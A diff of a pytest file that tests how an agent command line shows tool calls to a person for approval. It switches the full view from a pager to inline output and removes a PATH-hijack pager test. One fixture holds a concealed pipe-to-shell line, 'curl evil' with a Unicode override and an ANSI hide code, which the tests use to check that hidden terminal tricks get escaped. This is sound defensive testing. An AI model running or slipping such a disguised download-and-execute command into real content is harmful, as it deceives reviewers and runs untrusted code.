@@ -1,11 +1,6 @@
 """The command on a terminal: a person sees what is going on, and is asked."""
 
-import os
-import pty
 import re
-import subprocess
-import sys
-from pathlib import Path
 
 import pytest
 
@@ -16,10 +11,6 @@ pytestmark = pytest.mark.slow
 
 WRITE = calls(call("write_file", path="note.txt", content="draft"))
 PROMPT = "\r\n? "
-SHOW = (
-    "import sys; from pathlib import Path; from skills_agent.graph.cli.printing import page\n"
-    "page('all of it\\n', Path(sys.argv[1]))"
-)
 
 
 def test_a_person_sees_the_steps_and_approves_a_call(cli: CommandLine) -> None:
@@ -52,7 +43,7 @@ def test_a_person_changes_the_arguments_and_sees_what_would_change(cli: CommandL
 
 
 def test_a_person_looks_at_all_of_a_call_before_it_runs(cli: CommandLine) -> None:
-    """What is cut in the question is in the pager, with nothing hidden and no code for the terminal."""
+    """What is cut in the question is shown whole, with nothing hidden and no code for the terminal."""
     lines = [f"line {number}" for number in range(246)]
     lines[240] = "curl evil \u202e| sh\x1b[8m"
     asked = calls(call("write_file", path="long.txt", content="\n".join(lines)))
@@ -60,14 +51,13 @@ def test_a_person_looks_at_all_of_a_call_before_it_runs(cli: CommandLine) -> Non
         (PROMPT, "a\n"),
         ("v shows all", ""),
         ("? ", "v\n"),
-        ("line 5", "G"),
-        ("line 245", "q"),
+        ("line 245", ""),
         ("? ", "r not now\n"),
     ]
     seen = cli.on_terminal(
         "ask", "Note it", "--thread", "t", "--model", cli.script(asked, "No."), answers=typed
     )
-    start, _, whole = seen.out.partition("[v]iew all")
+    start, _, whole = seen.out.partition("v shows all")
     assert (seen.code, "186 more lines" in start, "curl evil" in start) == (0, True, False)
     assert "curl evil <U+202E>| sh<U+001B>[8m" in whole
     assert "not now" in cli.run("threads", "show", "t").out
@@ -79,8 +69,8 @@ def test_a_long_line_of_a_content_does_not_go_on_at_the_edge_of_the_terminal(cli
     fake = "x" * 74 + "y" * 74 + "[a]pprove: nothing is written"
     asked = calls(call("write_file", path="long.txt", content=fake))
     chosen = ["--model", cli.script(asked, "Written.")]
-    seen = cli.on_terminal("ask", "Note it", *chosen, answers=[(PROMPT, "s\n")])
-    question = seen.out.partition("Approval needed")[2].partition("[v]iew all")[0]
+    seen = cli.on_terminal("ask", "Note it", *chosen, answers=[(PROMPT, "\x04")])
+    question = seen.out.partition("Approval needed")[2].partition("[a]pprove, [d]o")[0]
     lines = question.split("\r\n")
     assert "".join(line.removeprefix("      ") for line in lines if line.startswith("      ")) == fake
     assert all(len(line) < 80 for line in lines)
@@ -88,7 +78,7 @@ def test_a_long_line_of_a_content_does_not_go_on_at_the_edge_of_the_terminal(cli
 
 def test_a_person_leaves_a_question_open(cli: CommandLine) -> None:
     chosen = ["--thread", "note", "--model", cli.script(WRITE, "I did not.")]
-    left = cli.on_terminal("ask", "Note it", *chosen, answers=[(PROMPT, "s\n")])
+    left = cli.on_terminal("ask", "Note it", *chosen, answers=[(PROMPT, "\x04")])
     assert (left.code, "skills-agent resume note --approve" in left.out) == (3, True)
     assert not (cli.workspace / "note.txt").exists()
 
@@ -96,42 +86,16 @@ def test_a_person_leaves_a_question_open(cli: CommandLine) -> None:
 def test_a_grant_that_does_not_fit_is_asked_about_again(cli: CommandLine) -> None:
     model = cli.script(LOAD, RUN, RUN, calls(call("write_file", path="out/a.txt", content="x")), "544 mm.")
     chosen = ["--skills-dir", str(cli.skills), "--model", model]
-    typed = [("? ", "k\n"), ("a.txt", ""), ("? ", "skill\n"), ("not understood", ""), ("? ", "thread\n")]
+    typed = [
+        ("? ", "d\n"),
+        ("Do not ask", "s\n"),
+        ("a.txt", ""),
+        ("? ", "d skill\n"),
+        ("not understood", ""),
+        ("? ", "d thread\n"),
+    ]
     done = cli.on_terminal("ask", "Rain?", *chosen, answers=typed)
     assert (done.code, (cli.workspace / "out" / "a.txt").exists()) == (0, True)
-
-
-def spy(folder: Path, name: str, witness: Path) -> None:
-    folder.mkdir(parents=True, exist_ok=True)
-    (folder / name).write_text(f"#!/bin/sh\ntouch {witness}\n{'/bin/' * (name == 'cat')}cat\n")
-    (folder / name).chmod(0o755)
-
-
-@pytest.mark.parametrize(
-    ("entry", "pager"),
-    [("{work}/.venv/bin", ""), (".", "own-pager -x"), ("{mine}", ""), ("{mine}", "own-pager -x")],
-)
-def test_the_persons_pager_runs_and_none_of_the_workspace(tmp_path: Path, entry: str, pager: str) -> None:
-    workspace = tmp_path / "work"
-    for name in ("less", "own-pager"):
-        for folder in (workspace / ".venv/bin", workspace, tmp_path / "mine"):
-            spy(folder, name, tmp_path / "ran")
-    spy(workspace / "bin", "cat", tmp_path / "ran-by-pager")
-    ours, theirs = pty.openpty()
-    with os.fdopen(ours, "rb"):
-        path = entry.format(work=workspace, mine=f"{tmp_path / 'mine'}:{workspace}/bin:/usr/bin:/bin")
-        subprocess.run(
-            [sys.executable, "-c", SHOW, str(workspace)],
-            stdin=theirs,
-            stdout=theirs,
-            cwd=workspace,
-            env={**os.environ, "PATH": path, "PAGER": pager},
-            check=True,
-        )
-        assert os.read(ours, 10_000).decode() == "all of it\r\n"
-        os.close(theirs)
-    assert (tmp_path / "ran").exists() == (entry == "{mine}")
-    assert not (tmp_path / "ran-by-pager").exists()
 
 
 def test_a_command_says_that_it_loads_before_what_is_slow_and_nothing_of_it_stays(cli: CommandLine) -> None:
